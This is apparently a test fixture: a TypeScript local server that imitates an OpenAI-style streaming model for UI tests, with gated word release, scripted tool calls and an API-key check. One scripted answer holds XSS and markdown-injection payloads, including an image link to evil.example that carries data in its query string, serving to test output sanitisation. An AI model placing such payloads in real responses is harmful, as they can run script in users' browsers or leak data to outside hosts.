import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { PAYLOADS } from './payloads';

/** What the scripted model says to questions that contain a word. */
const SCRIPTS: readonly { when: RegExp; says: string }[] = [
  {
    when: /hostile/,
    says: [
      '# Results',
      '<img src="https://evil.example/a.png" onerror="window.hacked = 1">',
      '<script>window.hacked = 1</script>',
      '![chart](https://evil.example/rows.png?data=secret)',
      '[click](javascript:window.hacked=1) [data](data:text/html,<script>1</script>) [docs](https://example.com/docs)',
      '<iframe src="https://evil.example"></iframe> <style>body{display:none}</style>',
      'The end of it.',
    ].join('\n\n'),
  },
  {
    when: /long/,
    says: Array.from({ length: 90 }, (_, index) => `Line ${index + 1} of a long answer.`).join(
      '\n\n',
    ),
  },
  { when: /every payload/, says: PAYLOADS.join('\n\n') },
  { when: /table/, says: 'Here:\n\n| city | people |\n| --- | --: |\n| Rome | 3 |\n' },
  { when: /code/, says: 'Like this:\n\n```sql\nSELECT 1;\n```\n\nThat is **all**.' },
];

/** The key that it takes where it is asked to check one. */
export const RIGHT_KEY = 'sk-right-0123456789';

/** A model that speaks OpenAI's protocol and says what the tests want, as slowly as they want. */
export interface ScriptedProvider {
  url: string;
  stop(): Promise<void>;
}

/**
 * Starts it. A question that contains `gate-KEY` is answered by twelve words, each of which waits
 * until it is let go by `POST /release/KEY?words=N`.
 */
export async function startProvider(): Promise<ScriptedProvider> {
  const gates = new Map<string, Gate>();
  const gate = (key: string): Gate => {
    const known = gates.get(key) ?? new Gate();
    gates.set(key, known);
    return known;
  };
  const handle = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const url = new URL(request.url ?? '/', 'http://localhost');
    const released = /^\/release\/(\w+)$/.exec(url.pathname)?.[1];
    if (released) {
      gate(released).release(Number(url.searchParams.get('words') ?? Infinity));
      response.end();
      return;
    }
    if (url.pathname === '/v1/models') {
      const isRight = request.headers.authorization === `Bearer ${RIGHT_KEY}`;
      response.writeHead(isRight ? 200 : 401, { 'Content-Type': 'application/json' });
      response.end('{}');
      return;
    }
    const { messages } = JSON.parse(await body(request)) as { messages: ModelMessage[] };
    const question = lastQuestion(messages);
    const key = /gate-(\w+)/.exec(question)?.[1];
    response.writeHead(200, { 'Content-Type': 'text/event-stream' });
    const call = /draw a chart/.test(question) && nextCall(messages);
    if (call) {
      send(response, {
        choices: [{ index: 0, delta: { tool_calls: [call] }, finish_reason: 'tool_calls' }],
      });
      response.end('data: [DONE]\n\n');
      return;
    }
    const text = key
      ? gatedWords(key)
      : (SCRIPTS.find(({ when }) => when.test(question))?.says ?? 'Yes.');
    let count = 0;
    for (const piece of text.match(/\s*\S+\s*/g) ?? []) {
      count += 1;
      if (key) await gate(key).passed(count);
      if (response.destroyed) return;
      send(response, { choices: [{ index: 0, delta: { content: piece } }] });
    }
    send(response, {
      choices: [{ index: 0, delta: {}, finish_reason: 'stop' }],
      usage: { prompt_tokens: 120, completion_tokens: count, total_tokens: 120 + count },
    });
    response.end('data: [DONE]\n\n');
  };
  const server = createServer((request, response) => {
    handle(request, response).catch(() => response.destroy());
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stop: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** The words of a gated answer. */
export function gatedWords(key: string): string {
  return Array.from({ length: 12 }, (_, index) => `${key}${index + 1}`).join(' ');
}

class Gate {
  #open = 0;
  #waiting: { place: number; pass: () => void }[] = [];

  passed(place: number): Promise<void> {
    return place <= this.#open
      ? Promise.resolve()
      : new Promise((pass) => this.#waiting.push({ place, pass }));
  }

  release(words: number): void {
    this.#open += words;
    const through = this.#waiting.filter(({ place }) => place <= this.#open);
    this.#waiting = this.#waiting.filter(({ place }) => place > this.#open);
    for (const { pass } of through) pass();
  }
}

async function body(request: IncomingMessage): Promise<string> {
  let text = '';
  for await (const chunk of request.setEncoding('utf8')) text += chunk as string;
  return text;
}

interface ModelMessage {
  role: string;
  content: unknown;
}

/** First a query, then a chart of its rows, then none. */
function nextCall(messages: readonly ModelMessage[]): object | null {
  const results = messages.slice(messages.findLastIndex(({ role }) => role === 'user') + 1);
  const [rows, ...others] = results.filter(({ role }) => role === 'tool');
  if (others.length > 0) return null;
  const [, resultId] = /"result_id":\s*"([0-9a-f-]{36})"/.exec(String(rows?.content)) ?? [];
  const [name, given] = rows
    ? ['create_chart', { result_id: resultId, mark: 'pie', x: 'status', y: ['orders'], title: 'Orders by status' }]
    : ['run_query', { sql: 'SELECT status, count(*)::int AS orders FROM orders GROUP BY status' }];
  const id = `call_${name}`;
  return { index: 0, id, type: 'function', function: { name, arguments: JSON.stringify(given) } };
}

function lastQuestion(messages: readonly ModelMessage[]): string {
  const last = messages.findLast(({ role }) => role === 'user')?.content;
  return typeof last === 'string' ? last : JSON.stringify(last);
}

function send(response: ServerResponse, chunk: object): void {
  const common = {
    id: 'chatcmpl-1',
    object: 'chat.completion.chunk',
    created: 1,
    model: 'script-1',
  };
  response.write(`data: ${JSON.stringify({ ...common, ...chunk })}\n\n`);
}
